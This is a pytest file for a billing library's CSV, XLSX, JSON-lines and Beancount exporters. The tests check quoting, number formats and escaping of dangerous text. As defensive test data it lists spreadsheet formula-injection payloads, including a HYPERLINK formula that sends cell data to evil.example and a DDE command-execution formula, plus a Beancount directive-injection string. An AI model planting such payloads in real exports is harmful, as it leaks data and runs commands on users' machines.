"""Formats of exports: cells of every kind as other programs read them, and texts that stay texts."""

from __future__ import annotations

import builtins
import csv
import io
import json
import re
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from prepaid import ConfigurationError, Money
from prepaid.export_ports import Column, Exporter
from prepaid.reporting.exports import COLUMNS, FORMATS
from prepaid.reporting.exports.as_beancount import BeancountFormat
from prepaid.reporting.exports.as_csv import CsvFormat, harmless
from prepaid.reporting.exports.as_jsonl import JsonLinesFormat
from prepaid.reporting.exports.as_xlsx import XlsxFormat, is_exact
from tests.use_cases.export_steps import READERS, load, read_xlsx, sheets

BLANKS = " \u00a0\u200b"
KINDS = ("text", "amount", "number", "day", "instant")
ROW = tuple(Column(kind, kind, "") for kind in KINDS)
TEXT = (Column("text", "text", ""),)
AMOUNT = (Column("amount", "amount", ""),)
AT = datetime(2026, 11, 23, 12, 0, 0, 123456, tzinfo=UTC)


def written(format, columns, *rows):
    to = io.BytesIO()
    format.write(columns, iter(rows), to)
    return to.getvalue()


def test_every_format_has_every_export_but_for_the_journals_own() -> None:
    assert {name: set(each.exports) for name, each in FORMATS.items()} == {
        "csv": set(COLUMNS),
        "xlsx": set(COLUMNS),
        "jsonl": set(COLUMNS),
        "beancount": {"journal"},
    }


def test_what_the_library_brings_keeps_the_contract_itself() -> None:
    assert all(isinstance(each, Exporter) for each in FORMATS.values())


def test_headings_are_unique_words_and_every_column_says_what_it_holds() -> None:
    for columns in COLUMNS.values():
        names = [column.name for column in columns]
        assert len(set(names)) == len(names)
        assert all(name.isidentifier() and name.islower() for name in names)
        assert all(column.about and column.kind in KINDS for column in columns)


# CSV


def test_csv_is_what_rfc_4180_says():
    found = written(
        CsvFormat(),
        ROW,
        ('a "b", c', Money.of("-1.50", "EUR"), 5, date(2026, 11, 23), AT),
        (None, None, None, None, None),
        ("two\r\nlines", Money.of("0.000001", "EUR"), Decimal("19.00"), None, None),
    )

    assert found == (
        b"text,amount,number,day,instant\r\n"
        b'"a ""b"", c",-1.50,5,2026-11-23,2026-11-23T12:00:00.123456Z\r\n'
        b",,,,\r\n"
        b'"two\r\nlines",0.000001,19.00,,\r\n'
    )


FORMULAS = [
    *("=1+1", "+49 30 1", "-5", "@SUM(A1)", "\t=1", "\r=1", "\n", "\tx", "\x00=1"),
    *("＝1+1", "＋1", "－5", "＠SUM(A1)", "﹦1", "﹢1", "﹣5", "﹫A1"),
    *("  =1", "\u00a0=1", "\u3000＝1", "\u200b=1", "\ufeff-1", "\u2060@x", "\u202e=1", " \t +1", "\x7f=1", "\x85=1"),
    '=HYPERLINK("http://evil.example/?"&A1,"more")',
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    found = harmless(text)

    assert found.startswith("'")
    assert found.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ["a;=1+1", "a;\t@x", 'a";"=1', "a\n=1", "a\r\n-1", "a\t+1", "a; ＝1"])
def test_a_text_that_would_be_cut_where_semicolons_separate_gets_one_at_the_cut(text):
    found = harmless(text)

    assert found.replace("'", "") == text
    assert not harmless_everywhere(text)
    assert harmless_everywhere(found)


def harmless_everywhere(text):
    """Tell whether no cell begins with a sign, even if semicolons, tabs and line ends separate cells."""
    first, *others = re.split(r"[;\t\r\n]", text)
    begun = [first.strip(BLANKS), *(cell.strip(f'{BLANKS}"') for cell in others)]
    return not any(cell.startswith(tuple("=+-@＝－")) for cell in begun)


@given(st.text(alphabet=" ;\"'\t\r\n=+-@＝－ab\u00a0\u200b", max_size=8))
def test_no_text_begins_a_formula_however_it_is_cut(text):
    found = harmless(text)
    assert harmless_everywhere(found)
    assert found.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text",
    ["", "a", "'=1", "O'Neil", "Müller & Söhne", "a-b", "1=1", "user+1@example.com", "– 5", "🎉=1", "אב=1", "#1", "0"],
)
def test_any_other_text_stays_as_it_is(text):
    assert harmless(text) == text


def test_numbers_are_no_texts_and_keep_their_minus():
    found = written(CsvFormat(), AMOUNT, (Money.of("-12.34", "EUR"),))
    assert found == b"amount\r\n-12.34\r\n"


@given(st.lists(st.tuples(st.text(max_size=12)), max_size=5))
def test_a_csv_reader_finds_every_text_again(lines):
    found = written(CsvFormat(), (*TEXT, Column("end", "number", "")), *((text, 1) for (text,) in lines))

    read = list(csv.reader(io.StringIO(found.decode("utf-8"), newline=""), strict=True))[1:]
    assert [row[0] for row in read] == [harmless(text) for (text,) in lines]
    assert all(row[1] == "1" for row in read)


# JSON lines


def test_a_json_line_has_amounts_as_strings_and_whole_numbers_as_numbers():
    found = written(
        JsonLinesFormat(), ROW, ("a\x00\n🎉", Money.of("-1.50", "EUR"), 5, date(2026, 11, 23), AT), (None,) * 5
    )

    first, second = (json.loads(line) for line in found.splitlines())
    assert first == {
        "text": "a\x00\n🎉",
        "amount": "-1.50",
        "number": 5,
        "day": "2026-11-23",
        "instant": "2026-11-23T12:00:00.123456Z",
    }
    assert second == dict.fromkeys(KINDS)
    assert found.count(b"\n") == 2
    assert json.loads(written(JsonLinesFormat(), (ROW[2],), (Decimal("8.10"),)))["number"] == "8.10"


# XLSX


def cell_of(content, row=1, column=0):
    return sheets(content)[0][row][column]


@pytest.mark.parametrize("text", [*FORMULAS, "http://evil.example", "12", "TRUE", "#REF!", "{=1}", " a ", "אב\u202e=1"])
def test_a_text_is_a_text_in_a_sheet(text):
    cell = cell_of(written(XlsxFormat(), TEXT, (text,)))

    assert (cell.data_type, cell.hyperlink) == ("s", None)
    assert (cell.number_format, cell.value is not None) == ("@", True)
    if text.isprintable():
        assert cell.value == text


@pytest.mark.parametrize(
    ("amount", "shown"),
    [
        ("12.50", "#,##0.00"),
        ("-0.000001", "#,##0.000000"),
        ("0.00", "#,##0.00"),
        ("999999999.999999", "#,##0.000000"),
        ("-9123456789012.34", "#,##0.00"),
    ],
)
def test_an_amount_is_a_number_that_shows_all_its_digits(amount, shown):
    cell = cell_of(written(XlsxFormat(), AMOUNT, (Money.of(amount, "EUR"),)))

    assert (cell.data_type, cell.number_format) == ("n", shown)
    assert Decimal(repr(cell.value)) == Decimal(amount)


@pytest.mark.parametrize("amount", ["1000000000.000001", "-9223372036854.775807", "123456789012.3456"])
def test_an_amount_of_more_digits_than_a_sheet_holds_is_a_text_and_not_rounded(amount):
    cell = cell_of(written(XlsxFormat(), AMOUNT, (Money.of(amount, "EUR"),)))

    assert (cell.data_type, cell.value) == ("s", amount)


@given(st.integers(-(2**63) + 1, 2**63 - 1))
def test_what_is_called_exact_is_found_again_from_floating_point(units):
    digits = Money(units, "EUR").plain()
    if is_exact(digits):
        assert Decimal(format(float(digits), ".15g")) == Decimal(digits)
        assert Decimal(repr(float(digits))) == Decimal(digits)


def test_days_numbers_and_instants_in_a_sheet():
    content = written(
        XlsxFormat(),
        ROW,
        ("a", None, 1234567, date(2026, 11, 23), AT),
        (None, None, Decimal("9.975"), date(1900, 1, 1), None),
    )

    [header, first, second] = sheets(content)[0]
    assert [cell.value for cell in header] == list(KINDS)
    assert (first[2].value, first[2].number_format) == (1234567, "0")
    assert (first[3].value, first[3].is_date) == (datetime(2026, 11, 23), True)  # noqa: DTZ001 - as a sheet has it
    assert (first[4].value, first[4].data_type) == ("2026-11-23T12:00:00.123456Z", "s")
    assert (second[2].value, second[2].number_format) == (9.975, "0.000")
    assert (second[3].value, second[3].data_type) == ("1900-01-01", "s")
    assert (first[1].value, second[0].value) == (None, None)


def test_a_sheet_has_a_heading_that_stays_and_columns_as_wide_as_theirs():
    import openpyxl

    content = written(XlsxFormat(), (*ROW, Column("a_column_with_a_very_long_heading", "number", "")))

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["C"].width > 8
    assert sheet.column_dimensions["F"].width > 33


@pytest.mark.parametrize(("count", "lengths"), [(0, [1]), (3, [4]), (4, [4, 2]), (6, [4, 4]), (7, [4, 4, 2])])
def test_a_full_sheet_is_followed_by_another_with_the_same_heading(count, lengths):
    rows = [(f"row {number}",) for number in range(count)]

    content = written(XlsxFormat(rows_of_a_sheet=4), TEXT, *rows)

    found = sheets(content)
    assert [len(sheet) for sheet in found] == lengths
    assert all(sheet[0][0].value == "text" for sheet in found)
    assert [row["text"] for row in read_xlsx(content)] == [text for (text,) in rows]
    assert XlsxFormat().rows_of_a_sheet == 1_048_576


def test_a_text_too_long_for_a_cell_is_refused_and_not_cut():
    assert cell_of(written(XlsxFormat(), TEXT, ("x" * 32_767,))).value == "x" * 32_767
    with pytest.raises(ConfigurationError, match="text is too long"):
        written(XlsxFormat(), TEXT, ("x" * 32_768,))


def test_what_a_workbook_is_made_of_is_gone_afterwards(tmp_path, monkeypatch):
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def failing():
        yield ("a",)
        raise KeyError("gone")

    written(XlsxFormat(), TEXT, ("a",))
    with pytest.raises(KeyError):
        XlsxFormat().write(TEXT, failing(), io.BytesIO())

    assert list(tmp_path.iterdir()) == []


def test_without_its_package_the_extra_is_named(monkeypatch):
    genuine = builtins.__import__

    def without(name, *rest, **more):
        if name == "xlsxwriter":
            raise ImportError(name)
        return genuine(name, *rest, **more)

    monkeypatch.setattr(builtins, "__import__", without)
    with pytest.raises(ConfigurationError, match="extra xlsx"):
        written(XlsxFormat(), TEXT)


# The journal


def entry(**changes):
    values = {
        "id": 1,
        "transaction": "txn_1",
        "posted_at": AT,
        "day": date(2026, 11, 23),
        "description": "vm-1, 1 h",
        "kind": "charge",
        "customer": "user-42",
        "debit": "wallet",
        "credit": "revenue",
        "debit_account": "Liabilities:Wallets",
        "credit_account": "Income:Usage",
        "amount": Money.of("0.00744", "EUR"),
        "currency": "EUR",
    }
    return tuple({**values, **changes}.values())


def test_the_journal_is_text_that_people_read_too():
    content = written(
        BeancountFormat(),
        COLUMNS["journal"],
        entry(),
        entry(credit_account="Expenses:Rounding", amount=Money.of("1", "EUR")),
        entry(
            transaction="txn_2", posted_at=datetime(2026, 11, 24, tzinfo=UTC), day=date(2026, 11, 24), description=None
        ),
    )

    assert content.decode() == (
        ";; -*- mode: beancount; coding: utf-8 -*-\n"
        "\n"
        "2026-11-23 open Liabilities:Wallets\n"
        "2026-11-23 open Income:Usage\n"
        "2026-11-23 open Expenses:Rounding\n"
        "\n"
        '2026-11-23 * "vm-1, 1 h"\n'
        '  transaction: "txn_1"\n'
        '  posted_at: "2026-11-23T12:00:00.123456Z"\n'
        '  kind: "charge"\n'
        '  customer: "user-42"\n'
        "  Liabilities:Wallets  1.00744 EUR\n"
        "  Income:Usage  -0.00744 EUR\n"
        "  Expenses:Rounding  -1.00 EUR\n"
        "\n"
        '2026-11-24 * "charge"\n'
        '  transaction: "txn_2"\n'
        '  posted_at: "2026-11-24T00:00:00Z"\n'
        '  kind: "charge"\n'
        '  customer: "user-42"\n'
        "  Liabilities:Wallets  0.00744 EUR\n"
        "  Income:Usage  -0.00744 EUR\n"
    )
    assert len(load(content)) == 5


def test_an_account_that_moves_to_itself_is_a_transaction_all_the_same():
    [_, found] = load(written(BeancountFormat(), COLUMNS["journal"], entry(credit_account="Liabilities:Wallets")))

    assert [str(posting.units) for posting in found.postings] == ["0.00 EUR"]


TRICKY = [
    *(
        'a "quoted" \\ name\\',
        "two\nlines\r\nand\ttabs",
        "\u202eאב 🎉 ₹",
        "; a comment",
        '" * "x',
        "#tag ^link",
        "x\n" * 90,
    ),
    '"\n2026-01-01 open Assets:Evil\n',
]


@pytest.mark.parametrize("text", TRICKY)
def test_a_text_in_the_journal_is_read_back_as_it_was(text):
    *opened, found = load(written(BeancountFormat(), COLUMNS["journal"], entry(description=text, customer=text)))

    assert (found.narration, found.meta["customer"]) == (text, text)
    assert len(opened) == 2


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=20))
def test_any_text_in_the_journal_is_a_text(text):
    *opened, found = load(written(BeancountFormat(), COLUMNS["journal"], entry(customer=text)))

    shown = "".join(char if char in "\n\t\r" or not (char < " " or "\x7f" <= char <= "\x9f") else " " for char in text)
    assert found.meta["customer"] == shown
    assert len(opened) == 2


# All of them


@pytest.mark.parametrize("format", READERS)
def test_a_row_of_another_length_is_no_row(format):
    with pytest.raises(ValueError, match="argument"):
        written(FORMATS[format], ROW, ("a",))
